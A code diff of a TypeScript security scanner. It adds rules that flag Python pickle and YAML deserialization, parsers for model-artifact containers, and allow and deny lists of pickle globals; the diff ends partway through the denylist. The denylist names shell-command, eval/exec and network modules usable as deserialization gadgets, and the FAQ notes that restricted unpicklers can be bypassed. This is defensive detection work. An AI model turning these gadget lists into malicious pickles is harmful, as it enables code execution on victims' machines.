-    detectionScope: 'Every call of `pickle.loads`, `pickle.load`, `pickle.Unpickler` (and the pure-Python `_loads`, `_load`, `_Unpickler`) resolved through the file\'s imports and bindings: aliases, `from pickle import ...`, star imports, `cPickle`/`_pickle`/`pickle5`/`six.moves.cPickle`, `try`/`except ImportError` fallbacks, rebinding, `importlib.import_module`/`__import__` with constant module names (also built by concatenation), `getattr(module, "loads")`, `sys.modules["pickle"]`, `functools.partial`, instantiation of classes in the same file that derive from `pickle.Unpickler` (with or without a `find_class` override), and sink functions passed as callbacks. Names shadowed by parameters, locals or attributes are not reported; strings and comments never match. `pickle.dumps`/`pickle.dump` are not findings. Not covered: calls through wrappers defined in other modules (add them as custom sinks in the configuration) and modules named by run-time strings. Every call is reported regardless of where its data comes from, because pickle has no safe input in practice; suppress a reviewed call with `# pathfinder: ignore[PYTHON-LANG-SEC-040]`.',
-    references: DESERIALIZATION_REFERENCES,
-    faq: [
-      {
-        question: "The data comes from our own cache or database. Is this a false positive?",
-        answer: "Only if no attacker can ever write to that store. Caches, queues and databases are frequent pivot points: an injection or SSRF elsewhere becomes code execution here. Prefer a data-only format; otherwise sign the payload with an HMAC and verify it before loading, then suppress the finding with a justification."
-      },
-      {
-        question: "We subclassed Unpickler and restricted find_class. Why is it still reported?",
-        answer: "A restricted unpickler is a denylist or allowlist over a Turing-complete format. Published bypasses abuse allowed globals (`getattr`, `operator`, `functools`, numpy and torch helpers) and nested pickles. Keep the restriction as defence in depth, but do not feed it untrusted data."
-      },
-      {
-        question: "Is `pickle.dumps` dangerous?",
-        answer: "No. Serializing runs no attacker-controlled code; only loading does. `dump`/`dumps` are never reported."
-      },
-      {
-        question: "Does this rule also cover joblib, torch.load, numpy.load or dill?",
-        answer: "Those libraries unpickle under the hood and have their own rules (see similar rules) so that each can check its own safe options, such as `weights_only=True` or `allow_pickle=False`."
-      }
-    ]
-  }
-});
 
 // src/rules/python/sink-helpers.ts
 function literalTruth(node, source) {
@@ -5361,14 +4529,14 @@ function loaderFix(loader, m) {
   const safe = name2 && SAFE_EQUIVALENT[m.model.text(name2)];
   return name2 && safe ? fix(`Use yaml.${safe}`, [replaceNode(name2, safe)]) : void 0;
 }
-function fullLoaderOutcome(m, what, fixed) {
+function fullLoaderOutcome(m, what, fixed2) {
   const severity = "medium";
   const confidence = "high";
   return {
     severity,
     confidence,
     message: `${what} uses FullLoader, which builds arbitrary Python objects from tags; it allowed code execution before PyYAML 5.4 (CVE-2020-1747, CVE-2020-14343) and still exposes more than data. Use \`yaml.safe_load\` for untrusted input.`,
-    ...fixed ? { fix: fixed } : {}
+    ...fixed2 ? { fix: fixed2 } : {}
   };
 }
 function checkFullLoad(m) {
@@ -5864,6 +5032,61 @@ var PYTHON_LANG_SEC_046_default = defineRule({
     ]
   }
 });
+
+// src/languages/python/calls.ts
+var CallArguments = class {
+  positional = [];
+  keywords = /* @__PURE__ */ new Map();
+  /** `*args` present: later positions are unknown. */
+  hasStarArgs = false;
+  /** `**kwargs` present: any keyword may be set. */
+  hasKwArgs = false;
+  constructor(call, source) {
+    const list = call ? childByField(call, "arguments") : void 0;
+    if (!list) return;
+    if (list.type === "generator_expression") {
+      this.positional.push(list);
+      return;
+    }
+    for (const arg of list.children) {
+      switch (arg.type) {
+        case "keyword_argument": {
+          const name2 = childByField(arg, "name");
+          const value = childByField(arg, "value");
+          if (name2 && value) this.keywords.set(source.slice(name2.start, name2.end), value);
+          break;
+        }
+        case "list_splat":
+          this.hasStarArgs = true;
+          break;
+        case "dictionary_splat":
+          this.hasKwArgs = true;
+          break;
+        case "comment":
+          break;
+        default:
+          if (!this.hasStarArgs) this.positional.push(arg);
+      }
+    }
+  }
+  /** The value bound to parameter `keyword` at `position` (0-based), like Ruff's `find_argument_value`. */
+  find(keyword, position) {
+    if (keyword !== void 0) {
+      const k = this.keywords.get(keyword);
+      if (k) return k;
+    }
+    return position !== void 0 ? this.positional[position] : void 0;
+  }
+  /** True when the parameter may be set without us seeing its value (`*args`/`**kwargs`). */
+  mayBeHidden(keyword, position) {
+    if (this.find(keyword, position)) return false;
+    return keyword !== void 0 && this.hasKwArgs || position !== void 0 && this.hasStarArgs;
+  }
+  /** Every argument value node, positional and keyword. */
+  values() {
+    return [...this.positional, ...this.keywords.values()];
+  }
+};
 
 // src/rules/python/PYTHON-LANG-SEC-073.ts
 var CLIENT_RECV = "multiprocessing.connection.Client().recv";
@@ -6984,11 +6207,8241 @@ function withSeverity(spec, severity) {
   };
 }
 
+// src/project/artifacts.ts
+import { closeSync as closeSync2, openSync as openSync2, readSync as readSync2 } from "node:fs";
+
+// src/artifacts/containers/bytes.ts
+function u16le(b, at) {
+  return b[at] | b[at + 1] << 8;
+}
+function u32le(b, at) {
+  return (b[at] | b[at + 1] << 8 | b[at + 2] << 16) + b[at + 3] * 16777216;
+}
+function u64le(b, at) {
+  const high = u32le(b, at + 4);
+  if (high >= 2097152) return Number.POSITIVE_INFINITY;
+  return high * 4294967296 + u32le(b, at);
+}
+function i32le(b, at) {
+  return b[at] | b[at + 1] << 8 | b[at + 2] << 16 | b[at + 3] << 24;
+}
+function i64le(b, at) {
+  const low = u32le(b, at);
+  const high = i32le(b, at + 4);
+  const value = high * 4294967296 + low;
+  return Number.isSafeInteger(value) ? value : Number.NaN;
+}
+function startsWith(b, prefix, at = 0) {
+  if (b.length < at + prefix.length) return false;
+  for (let i2 = 0; i2 < prefix.length; i2++) if (b[at + i2] !== prefix[i2]) return false;
+  return true;
+}
+function ascii(text) {
+  return Array.from(text, (c) => c.charCodeAt(0));
+}
+function latin1(b) {
+  let out2 = "";
+  for (let i2 = 0; i2 < b.length; i2 += 4096) {
+    out2 += String.fromCharCode(...b.subarray(i2, Math.min(b.length, i2 + 4096)));
+  }
+  return out2;
+}
+var utf8Decoder = new TextDecoder("utf-8", { fatal: false });
+function utf8(b) {
+  return utf8Decoder.decode(b);
+}
+function concatBytes(chunks, total) {
+  const size = total ?? chunks.reduce((n, c) => n + c.length, 0);
+  const out2 = new Uint8Array(size);
+  let at = 0;
+  for (const c of chunks) {
+    const take = Math.min(c.length, size - at);
+    out2.set(c.subarray(0, take), at);
+    at += take;
+    if (at >= size) break;
+  }
+  return out2;
+}
+function lastIndexOf(hay, needle, from = hay.length - needle.length) {
+  outer: for (let i2 = Math.min(from, hay.length - needle.length); i2 >= 0; i2--) {
+    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
+    return i2;
+  }
+  return -1;
+}
+function indexOf(hay, needle, from = 0) {
+  outer: for (let i2 = Math.max(0, from); i2 + needle.length <= hay.length; i2++) {
+    for (let j = 0; j < needle.length; j++) if (hay[i2 + j] !== needle[j]) continue outer;
+    return i2;
+  }
+  return -1;
+}
+
+// src/artifacts/containers/sources.ts
+function memorySource(bytes) {
+  return {
+    size: bytes.length,
+    async read(offset, length) {
+      const start2 = Math.max(0, Math.min(offset, bytes.length));
+      return bytes.subarray(start2, Math.min(bytes.length, start2 + Math.max(0, length)));
+    }
+  };
+}
+function sliceSource(parent, offset, size) {
+  const start2 = Math.max(0, Math.min(offset, parent.size));
+  const length = Math.max(0, Math.min(size, parent.size - start2));
+  return {
+    size: length,
+    async read(at, want) {
+      if (at >= length || want <= 0) return new Uint8Array(0);
+      return parent.read(start2 + at, Math.min(want, length - at));
+    }
+  };
+}
+async function readRange(source, offset, length) {
+  const want = Math.max(0, Math.min(length, source.size - offset));
+  if (want === 0) return new Uint8Array(0);
+  const first = await source.read(offset, want);
+  if (first.length >= want) return first.length === want ? first : first.subarray(0, want);
+  const out2 = new Uint8Array(want);
+  out2.set(first, 0);
+  let got = first.length;
+  while (got < want) {
+    const more = await source.read(offset + got, want - got);
+    if (more.length === 0) break;
+    out2.set(more.subarray(0, want - got), got);
+    got += more.length;
+  }
+  return got === want ? out2 : out2.subarray(0, got);
+}
+
+// src/artifacts/containers/npy.ts
+var MAGIC = [147, ...ascii("NUMPY")];
+var MAX_HEADER = 1 << 20;
+function looksLikeNpy(head) {
+  return startsWith(head, MAGIC);
+}
+async function readNpyHeader(source) {
+  const prefix = await readRange(source, 0, 12);
+  if (!startsWith(prefix, MAGIC) || prefix.length < 10) return { ok: false, error: "not a .npy file" };
+  const major = prefix[6];
+  const minor = prefix[7];
+  if (major < 1 || major > 3) return { ok: false, error: `unsupported .npy format version ${major}.${minor}` };
+  const lengthSize = major === 1 ? 2 : 4;
+  if (prefix.length < 8 + lengthSize) return { ok: false, error: ".npy header is truncated" };
+  const headerLength = major === 1 ? u16le(prefix, 8) : u32le(prefix, 8);
+  const headerStart = 8 + lengthSize;
+  if (headerLength > MAX_HEADER) return { ok: false, error: `.npy header of ${headerLength} bytes is implausibly large` };
+  if (headerStart + headerLength > source.size) return { ok: false, error: ".npy header is truncated" };
+  const raw = await readRange(source, headerStart, headerLength);
+  const text = major === 3 ? utf8(raw) : latin1(raw);
+  const descr = extractValue(text, "descr");
+  if (descr === void 0) return { ok: false, error: ".npy header has no 'descr'" };
+  const shapeText = extractValue(text, "shape") ?? "()";
+  const shape = [...shapeText.matchAll(/\d+/g)].map((m) => Number(m[0]));
+  return {
+    ok: true,
+    header: {
+      version: `${major}.${minor}`,
+      descr,
+      fortranOrder: /['"]fortran_order['"]\s*:\s*True/.test(text),
+      shape,
+      hasObject: descrHasObject(descr),
+      dataOffset: headerStart + headerLength
+    }
+  };
+}
+function extractValue(text, key) {
+  const match = new RegExp(`['"]${key}['"]\\s*:\\s*`).exec(text);
+  if (!match) return void 0;
+  const start2 = match.index + match[0].length;
+  const open = text[start2];
+  if (open === "'" || open === '"') {
+    const end = text.indexOf(open, start2 + 1);
+    return end < 0 ? void 0 : text.slice(start2 + 1, end);
+  }
+  if (open === "[" || open === "(") {
+    let depth = 0;
+    for (let i2 = start2; i2 < text.length; i2++) {
+      const c = text[i2];
+      if (c === "[" || c === "(") depth++;
+      else if (c === "]" || c === ")") {
+        depth--;
+        if (depth === 0) return text.slice(start2, i2 + 1);
+      }
+    }
+    return void 0;
+  }
+  return /^[^,}]*/.exec(text.slice(start2))?.[0]?.trim();
+}
+function descrHasObject(descr) {
+  if (!descr.startsWith("[")) return /^[<>|=]?O\d*$/.test(descr);
+  return [...descr.matchAll(/['"]([<>|=]?O\d*)['"]/g)].length > 0;
+}
+
+// src/artifacts/containers/tar.ts
+var BLOCK = 512;
+var MAX_NAME_RECORD = 1 << 16;
+function looksLikeTar(head) {
+  return head.length >= BLOCK && headerChecksumOk(head.subarray(0, BLOCK));
+}
+function headerChecksumOk(header) {
+  const stored = parseOctal(header.subarray(148, 156));
+  if (stored === null) return false;
+  let sum = 0;
+  for (let i2 = 0; i2 < BLOCK; i2++) sum += i2 >= 148 && i2 < 156 ? 32 : header[i2];
+  return sum === stored;
+}
+function parseOctal(field) {
+  const text = latin1(field).replace(/\0.*$/s, "").trim();
+  if (!/^[0-7]+$/.test(text)) return null;
+  return parseInt(text, 8);
+}
+function parseSize(field) {
+  if ((field[0] & 128) !== 0) {
+    let value = 0;
+    for (let i2 = 1; i2 < field.length; i2++) value = value * 256 + field[i2];
+    return Number.isSafeInteger(value) ? value : null;
+  }
+  return parseOctal(field);
+}
+function cString(field) {
+  const end = field.indexOf(0);
+  return utf8(end < 0 ? field : field.subarray(0, end));
+}
+async function listTar(source, maxEntries) {
+  const listing = { entries: [], warnings: [] };
+  let at = 0;
+  let pendingName;
+  while (at + BLOCK <= source.size) {
+    const header = await readRange(source, at, BLOCK);
+    if (header.every((b) => b === 0)) break;
+    if (!headerChecksumOk(header)) {
+      listing.warnings.push(`tar header at offset ${at} has a bad checksum; listing stopped`);
+      break;
+    }
+    const size = parseSize(header.subarray(124, 136));
+    if (size === null) {
+      listing.warnings.push(`tar header at offset ${at} has an unreadable size; listing stopped`);
+      break;
+    }
+    const type = String.fromCharCode(header[156]) || "0";
+    const dataOffset = at + BLOCK;
+    if (dataOffset + size > source.size) listing.warnings.push(`tar member at offset ${at} is truncated`);
+    if (type === "L" || type === "x") {
+      const record = await readRange(source, dataOffset, Math.min(size, MAX_NAME_RECORD));
+      pendingName = type === "L" ? cString(record) : paxPath(utf8(record)) ?? pendingName;
+    } else if (type !== "g") {
+      const prefix = latin1(header.subarray(257, 263)).startsWith("ustar") ? cString(header.subarray(345, 500)) : "";
+      const base = cString(header.subarray(0, 100));
+      const name2 = pendingName ?? (prefix ? `${prefix}/${base}` : base);
+      pendingName = void 0;
+      if (listing.entries.length >= maxEntries) {
+        listing.warnings.push(`tar has more than ${maxEntries} members; the rest were not inspected`);
+        break;
+      }
+      listing.entries.push({ name: name2, dataOffset, size: Math.max(0, Math.min(size, source.size - dataOffset)), type: type === "\0" ? "0" : type });
+    }
+    at = dataOffset + Math.ceil(size / BLOCK) * BLOCK;
+  }
+  return listing;
+}
+function paxPath(text) {
+  for (const line of text.split("\n")) {
+    const match = /^\d+ path=(.*)$/s.exec(line);
+    if (match) return match[1];
+  }
+  return void 0;
+}
+
+// src/artifacts/containers/sniff.ts
+var SNIFF_BYTES = 512;
+function sniffFormat(head) {
+  if (looksLikeNpy(head)) return "npy";
+  if (startsWith(head, ascii("PK")) || startsWith(head, ascii("PK"))) return "zip";
+  if (startsWith(head, [31, 139])) return "gzip";
+  if (startsWith(head, ascii("BZh")) && head.length > 3 && head[3] >= 49 && head[3] <= 57) return "bz2";
+  if (startsWith(head, [253, 55, 122, 88, 90, 0])) return "xz";
+  if (startsWith(head, [55, 122, 188, 175, 39, 28])) return "7z";
+  if (startsWith(head, ascii("Rar!\x07"))) return "rar";
+  if (startsWith(head, [40, 181, 47, 253])) return "zstd";
+  if (startsWith(head, [4, 34, 77, 24])) return "lz4";
+  if (looksLikeZlib(head)) return "zlib";
+  if (looksLikeLzmaAlone(head)) return "lzma";
+  if (startsWith(head, ascii("ZF")) && head.length >= 22 && head[21] === 120) return "joblib-zfile";
+  if (looksLikeTar(head)) return "tar";
+  return "unknown";
+}
+function looksLikeZlib(head) {
+  if (head.length < 2 || head[0] !== 120) return false;
+  return (head[0] << 8 | head[1]) % 31 === 0;
+}
+function looksLikeLzmaAlone(head) {
+  if (head.length < 13 || head[0] !== 93) return false;
+  const dict = (head[1] | head[2] << 8 | head[3] << 16 | head[4] << 24) >>> 0;
+  const sizeKnown = !head.subarray(5, 13).every((b) => b === 255);
+  return dict >= 1 << 12 && dict <= 1 << 30 && (!sizeKnown || head[12] === 0);
+}
+var ARTIFACT_EXTENSIONS = [
+  ".pkl",
+  ".pickle",
+  ".pck",
+  ".pcl",
+  ".p",
+  ".pt",
+  ".pth",
+  ".bin",
+  ".ckpt",
+  ".joblib",
+  ".jbl",
+  ".npy",
+  ".npz",
+  ".dill",
+  ".sav",
+  ".model",
+  ".mar",
+  ".pkl.gz",
+  ".pkl.bz2",
+  ".pkl.xz",
+  ".pkl.lzma",
+  ".pkl.z",
+  ".gz",
+  ".bz2",
+  ".xz",
+  ".lzma",
+  ".7z",
+  ".zip",
+  ".tar"
+];
+
+// src/artifacts/pickle/allowlist.ts
+var TORCH_STORAGE_TYPES = [
+  "Double",
+  "Float",
+  "Half",
+  "Long",
+  "Int",
+  "Short",
+  "Char",
+  "Byte",
+  "Bool",
+  "BFloat16",
+  "ComplexDouble",
+  "ComplexFloat",
+  "QUInt8",
+  "QInt8",
+  "QInt32",
+  "QUInt4x2",
+  "QUInt2x4"
+].map((t) => `torch.${t}Storage`);
+var TORCH_DTYPES = [
+  "float64",
+  "double",
+  "float32",
+  "float",
+  "float16",
+  "half",
+  "bfloat16",
+  "int64",
+  "long",
+  "int32",
+  "int",
+  "int16",
+  "short",
+  "int8",
+  "uint8",
+  "uint16",
+  "uint32",
+  "uint64",
+  "bool",
+  "complex32",
+  "complex64",
+  "complex128",
+  "cfloat",
+  "cdouble",
+  "chalf",
+  "qint8",
+  "quint8",
+  "qint32",
+  "quint4x2",
+  "quint2x4",
+  "float8_e4m3fn",
+  "float8_e5m2",
+  "float8_e4m3fnuz",
+  "float8_e5m2fnuz",
+  "bits8",
+  "bits16"
+].map((d) => `torch.${d}`);
+var TORCH_REBUILD = [
+  "_rebuild_tensor",
+  "_rebuild_tensor_v2",
+  "_rebuild_tensor_v3",
+  "_rebuild_parameter",
+  "_rebuild_parameter_with_state",
+  "_rebuild_qtensor",
+  "_rebuild_sparse_tensor",
+  "_rebuild_sparse_csr_tensor",
+  "_rebuild_nested_tensor",
+  "_rebuild_device_tensor_from_numpy",
+  "_rebuild_meta_tensor_no_storage",
+  "_rebuild_wrapper_subclass",
+  "_rebuild_device_tensor_from_cpu_tensor"
+].map((f) => `torch._utils.${f}`);
+var TORCH_MISC = [
+  "torch.Size",
+  "torch.device",
+  "torch.dtype",
+  "torch.Tensor",
+  "torch._tensor.Tensor",
+  "torch.nn.parameter.Parameter",
+  "torch.nn.Parameter",
+  "torch.storage.UntypedStorage",
+  "torch.UntypedStorage",
+  "torch.storage.TypedStorage",
+  "torch.TypedStorage",
+  "torch.storage._TypedStorage",
+  "torch._tensor._rebuild_from_type_v2",
+  "torch.per_tensor_affine",
+  "torch.per_channel_affine",
+  "torch.per_tensor_symmetric",
+  "torch.per_channel_symmetric",
+  "torch.per_channel_affine_float_qparams",
+  "torch.contiguous_format",
+  "torch.channels_last",
+  "torch.channels_last_3d",
+  "torch.preserve_format",
+  "torch.strided",
+  "torch.sparse_coo",
+  "torch.sparse_csr",
+  "torch.sparse_csc",
+  "torch.sparse_bsr",
+  "torch.sparse_bsc",
+  "torch._mkldnn",
+  "torch.serialization._get_layout"
+];
+var PYTHON_BUILTINS = [
+  "set",
+  "frozenset",
+  "list",
+  "dict",
+  "tuple",
+  "complex",
+  "bytearray",
+  "bytes",
+  "slice",
+  "range",
+  "bool",
+  "int",
+  "float",
+  "str",
+  "object",
+  "NoneType",
+  "Ellipsis",
+  "NotImplemented"
+].map((b) => `builtins.${b}`);
+var NUMPY = [
+  "numpy.core.multiarray._reconstruct",
+  "numpy.core.multiarray.scalar",
+  "numpy._core.multiarray._reconstruct",
+  "numpy._core.multiarray.scalar",
+  "numpy.ndarray",
+  "numpy.dtype",
+  "numpy.core.numeric._frombuffer",
+  "numpy._core.numeric._frombuffer",
+  "numpy.dtypes.*",
+  "numpy.ma.core._mareconstruct",
+  ...[
+    "bool_",
+    "int8",
+    "int16",
+    "int32",
+    "int64",
+    "uint8",
+    "uint16",
+    "uint32",
+    "uint64",
+    "float16",
+    "float32",
+    "float64",
+    "longdouble",
+    "complex64",
+    "complex128",
+    "clongdouble",
+    "str_",
+    "bytes_",
+    "void",
+    "object_",
+    "datetime64",
+    "timedelta64",
+    "intc",
+    "uintc",
+    "longlong",
+    "ulonglong"
+  ].map((t) => `numpy.${t}`)
+];
+var STDLIB = [
+  "collections.OrderedDict",
+  "collections.Counter",
+  "collections.defaultdict",
+  "collections.deque",
+  "_codecs.encode",
+  "codecs.encode",
+  "copyreg._reconstructor",
+  "copyreg.__newobj__",
+  "copyreg.__newobj_ex__",
+  "datetime.datetime",
+  "datetime.date",
+  "datetime.time",
+  "datetime.timedelta",
+  "datetime.timezone",
+  "decimal.Decimal",
+  "fractions.Fraction",
+  "uuid.UUID",
+  "enum.Enum"
+];
+var JOBLIB = [
+  "joblib.numpy_pickle.NumpyArrayWrapper",
+  "joblib.numpy_pickle_compat.NDArrayWrapper",
+  "joblib.numpy_pickle_compat.ZNDArrayWrapper"
+];
+var ALLOWLIST = [
+  ...TORCH_STORAGE_TYPES,
+  ...TORCH_DTYPES,
+  ...TORCH_REBUILD,
+  ...TORCH_MISC,
+  ...PYTHON_BUILTINS,
+  ...NUMPY,
+  ...STDLIB,
+  ...JOBLIB
+];
+var ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS = /* @__PURE__ */ new Set([
+  "copyreg._reconstructor",
+  "copyreg.__newobj__",
+  "copyreg.__newobj_ex__",
+  "collections.defaultdict"
+]);
+
+// src/artifacts/pickle/compat-mapping.ts
+var IMPORT_MAPPING = /* @__PURE__ */ new Map([
+  ["__builtin__", "builtins"],
+  ["copy_reg", "copyreg"],
+  ["Queue", "queue"],
+  ["SocketServer", "socketserver"],
+  ["ConfigParser", "configparser"],
+  ["repr", "reprlib"],
+  ["tkFileDialog", "tkinter.filedialog"],
+  ["tkSimpleDialog", "tkinter.simpledialog"],
+  ["tkColorChooser", "tkinter.colorchooser"],
+  ["tkCommonDialog", "tkinter.commondialog"],
+  ["Dialog", "tkinter.dialog"],
+  ["Tkdnd", "tkinter.dnd"],
+  ["tkFont", "tkinter.font"],
+  ["tkMessageBox", "tkinter.messagebox"],
+  ["ScrolledText", "tkinter.scrolledtext"],
+  ["Tkconstants", "tkinter.constants"],
+  ["Tix", "tkinter.tix"],
+  ["ttk", "tkinter.ttk"],
+  ["Tkinter", "tkinter"],
+  ["markupbase", "_markupbase"],
+  ["_winreg", "winreg"],
+  ["thread", "_thread"],
+  ["dummy_thread", "_dummy_thread"],
+  ["dbhash", "dbm.bsd"],
+  ["dumbdbm", "dbm.dumb"],
+  ["dbm", "dbm.ndbm"],
+  ["gdbm", "dbm.gnu"],
+  ["xmlrpclib", "xmlrpc.client"],
+  ["SimpleXMLRPCServer", "xmlrpc.server"],
+  ["httplib", "http.client"],
+  ["htmlentitydefs", "html.entities"],
+  ["HTMLParser", "html.parser"],
+  ["Cookie", "http.cookies"],
+  ["cookielib", "http.cookiejar"],
+  ["BaseHTTPServer", "http.server"],
+  ["test.test_support", "test.support"],
+  ["commands", "subprocess"],
+  ["urlparse", "urllib.parse"],
+  ["robotparser", "urllib.robotparser"],
+  ["urllib2", "urllib.request"],
+  ["anydbm", "dbm"],
+  ["_abcoll", "collections.abc"],
+  ["cPickle", "pickle"],
+  ["_elementtree", "xml.etree.ElementTree"],
+  ["FileDialog", "tkinter.filedialog"],
+  ["SimpleDialog", "tkinter.simpledialog"],
+  ["DocXMLRPCServer", "xmlrpc.server"],
+  ["SimpleHTTPServer", "http.server"],
+  ["CGIHTTPServer", "http.server"],
+  ["UserDict", "collections"],
+  ["UserList", "collections"],
+  ["UserString", "collections"],
+  ["whichdb", "dbm"],
+  ["StringIO", "io"],
+  ["cStringIO", "io"]
+]);
+var NAME_MAPPING = /* @__PURE__ */ new Map([
+  ["__builtin__\0xrange", ["builtins", "range"]],
+  ["__builtin__\0reduce", ["functools", "reduce"]],
+  ["__builtin__\0intern", ["sys", "intern"]],
+  ["__builtin__\0unichr", ["builtins", "chr"]],
+  ["__builtin__\0unicode", ["builtins", "str"]],
+  ["__builtin__\0long", ["builtins", "int"]],
+  ["itertools\0izip", ["builtins", "zip"]],
+  ["itertools\0imap", ["builtins", "map"]],
+  ["itertools\0ifilter", ["builtins", "filter"]],
+  ["itertools\0ifilterfalse", ["itertools", "filterfalse"]],
+  ["itertools\0izip_longest", ["itertools", "zip_longest"]],
+  ["UserDict\0IterableUserDict", ["collections", "UserDict"]],
+  ["UserList\0UserList", ["collections", "UserList"]],
+  ["UserString\0UserString", ["collections", "UserString"]],
+  ["whichdb\0whichdb", ["dbm", "whichdb"]],
+  ["_socket\0fromfd", ["socket", "fromfd"]],
+  ["_multiprocessing\0Connection", ["multiprocessing.connection", "Connection"]],
+  ["multiprocessing.process\0Process", ["multiprocessing.context", "Process"]],
+  ["multiprocessing.forking\0Popen", ["multiprocessing.popen_fork", "Popen"]],
+  ["urllib\0ContentTooShortError", ["urllib.error", "ContentTooShortError"]],
+  ["urllib\0getproxies", ["urllib.request", "getproxies"]],
+  ["urllib\0pathname2url", ["urllib.request", "pathname2url"]],
+  ["urllib\0quote_plus", ["urllib.parse", "quote_plus"]],
+  ["urllib\0quote", ["urllib.parse", "quote"]],
+  ["urllib\0unquote_plus", ["urllib.parse", "unquote_plus"]],
+  ["urllib\0unquote", ["urllib.parse", "unquote"]],
+  ["urllib\0url2pathname", ["urllib.request", "url2pathname"]],
+  ["urllib\0urlcleanup", ["urllib.request", "urlcleanup"]],
+  ["urllib\0urlencode", ["urllib.parse", "urlencode"]],
+  ["urllib\0urlopen", ["urllib.request", "urlopen"]],
+  ["urllib\0urlretrieve", ["urllib.request", "urlretrieve"]],
+  ["urllib2\0HTTPError", ["urllib.error", "HTTPError"]],
+  ["urllib2\0URLError", ["urllib.error", "URLError"]],
+  ["exceptions\0ArithmeticError", ["builtins", "ArithmeticError"]],
+  ["exceptions\0AssertionError", ["builtins", "AssertionError"]],
+  ["exceptions\0AttributeError", ["builtins", "AttributeError"]],
+  ["exceptions\0BaseException", ["builtins", "BaseException"]],
+  ["exceptions\0BufferError", ["builtins", "BufferError"]],
+  ["exceptions\0BytesWarning", ["builtins", "BytesWarning"]],
+  ["exceptions\0DeprecationWarning", ["builtins", "DeprecationWarning"]],
+  ["exceptions\0EOFError", ["builtins", "EOFError"]],
+  ["exceptions\0EnvironmentError", ["builtins", "EnvironmentError"]],
+  ["exceptions\0Exception", ["builtins", "Exception"]],
+  ["exceptions\0FloatingPointError", ["builtins", "FloatingPointError"]],
+  ["exceptions\0FutureWarning", ["builtins", "FutureWarning"]],
+  ["exceptions\0GeneratorExit", ["builtins", "GeneratorExit"]],
+  ["exceptions\0IOError", ["builtins", "IOError"]],
+  ["exceptions\0ImportError", ["builtins", "ImportError"]],
+  ["exceptions\0ImportWarning", ["builtins", "ImportWarning"]],
+  ["exceptions\0IndentationError", ["builtins", "IndentationError"]],
+  ["exceptions\0IndexError", ["builtins", "IndexError"]],
+  ["exceptions\0KeyError", ["builtins", "KeyError"]],
+  ["exceptions\0KeyboardInterrupt", ["builtins", "KeyboardInterrupt"]],
+  ["exceptions\0LookupError", ["builtins", "LookupError"]],
+  ["exceptions\0MemoryError", ["builtins", "MemoryError"]],
+  ["exceptions\0NameError", ["builtins", "NameError"]],
+  ["exceptions\0NotImplementedError", ["builtins", "NotImplementedError"]],
+  ["exceptions\0OSError", ["builtins", "OSError"]],
+  ["exceptions\0OverflowError", ["builtins", "OverflowError"]],
+  ["exceptions\0PendingDeprecationWarning", ["builtins", "PendingDeprecationWarning"]],
+  ["exceptions\0ReferenceError", ["builtins", "ReferenceError"]],
+  ["exceptions\0RuntimeError", ["builtins", "RuntimeError"]],
+  ["exceptions\0RuntimeWarning", ["builtins", "RuntimeWarning"]],
+  ["exceptions\0StopIteration", ["builtins", "StopIteration"]],
+  ["exceptions\0SyntaxError", ["builtins", "SyntaxError"]],
+  ["exceptions\0SyntaxWarning", ["builtins", "SyntaxWarning"]],
+  ["exceptions\0SystemError", ["builtins", "SystemError"]],
+  ["exceptions\0SystemExit", ["builtins", "SystemExit"]],
+  ["exceptions\0TabError", ["builtins", "TabError"]],
+  ["exceptions\0TypeError", ["builtins", "TypeError"]],
+  ["exceptions\0UnboundLocalError", ["builtins", "UnboundLocalError"]],
+  ["exceptions\0UnicodeDecodeError", ["builtins", "UnicodeDecodeError"]],
+  ["exceptions\0UnicodeEncodeError", ["builtins", "UnicodeEncodeError"]],
+  ["exceptions\0UnicodeError", ["builtins", "UnicodeError"]],
+  ["exceptions\0UnicodeTranslateError", ["builtins", "UnicodeTranslateError"]],
+  ["exceptions\0UnicodeWarning", ["builtins", "UnicodeWarning"]],
+  ["exceptions\0UserWarning", ["builtins", "UserWarning"]],
+  ["exceptions\0ValueError", ["builtins", "ValueError"]],
+  ["exceptions\0Warning", ["builtins", "Warning"]],
+  ["exceptions\0ZeroDivisionError", ["builtins", "ZeroDivisionError"]],
+  ["multiprocessing\0AuthenticationError", ["multiprocessing.context", "AuthenticationError"]],
+  ["multiprocessing\0BufferTooShort", ["multiprocessing.context", "BufferTooShort"]],
+  ["multiprocessing\0ProcessError", ["multiprocessing.context", "ProcessError"]],
+  ["multiprocessing\0TimeoutError", ["multiprocessing.context", "TimeoutError"]],
+  ["__builtin__\0basestring", ["builtins", "str"]],
+  ["exceptions\0StandardError", ["builtins", "Exception"]],
+  ["UserDict\0UserDict", ["collections", "UserDict"]],
+  ["socket\0_socketobject", ["socket", "SocketType"]]
+]);
+
+// src/artifacts/pickle/denylist.ts
+var CMD = "runs shell commands or programs";
+var CODE = "evaluates or compiles arbitrary Python code";
+var ATTR = "reaches arbitrary attributes (gadget for calling anything)";
+var IMPORT = "imports arbitrary modules";
+var LOADS = "deserializes nested data (nested pickle or unsafe loader)";
+var NET = "performs network access";
+var FILE = "reads, writes or deletes files";
+var DEBUG = "debugger/profiler/REPL entry point that runs code";
+var NATIVE = "loads native code or manipulates memory";
+var INSTALL = "installs packages or runs build scripts";
+var PROC = "spawns processes, threads or signal handlers";
+function group(reason2, names) {
+  return names.map((name2) => ({ name: name2, reason: reason2 }));
+}
+var DENYLIST = [
+  ...group(CMD, [
+    "os",
+    "posix",
+    "nt",
+    "subprocess",
+    "commands",
+    "popen2",
+    "pty",
+    "_posixsubprocess",
+    "asyncio.subprocess",
+    "asyncio.create_subprocess_exec",
+    "asyncio.create_subprocess_shell",
+    "asyncio.base_events",
+    "asyncio.unix_events",
+    "asyncio.windows_events",
+    "platform.popen",
+    "pexpect",
+    "sh",
+    "plumbum",
+    "fabric",
+    "paramiko",
+    "invoke",
+    "uuid._get_command_stdout"
+  ]),
+  ...group(CODE, [
+    "builtins.eval",
+    "builtins.exec",
+    "builtins.compile",
+    "builtins.execfile",
+    "builtins.apply",
+    "builtins.breakpoint",
+    "builtins.input",
+    "builtins.raw_input",
+    "builtins.help",
+    "builtins.exit",
+    "builtins.quit",
+    "code",
+    "codeop",
+    "runpy",
+    "types.CodeType",
+    "types.FunctionType",
+    "types.LambdaType",
+    "types.MethodType",
+    "types.ModuleType",
+    "marshal",
+    "timeit",
+    "doctest",
+    "pydoc",
+    "pydoc_data",
+    "idlelib",
+    "lib2to3",
+    "numpy.testing._private.utils.runstring",
+    "numpy.f2py",
+    "numpy.distutils",
+    "IPython",
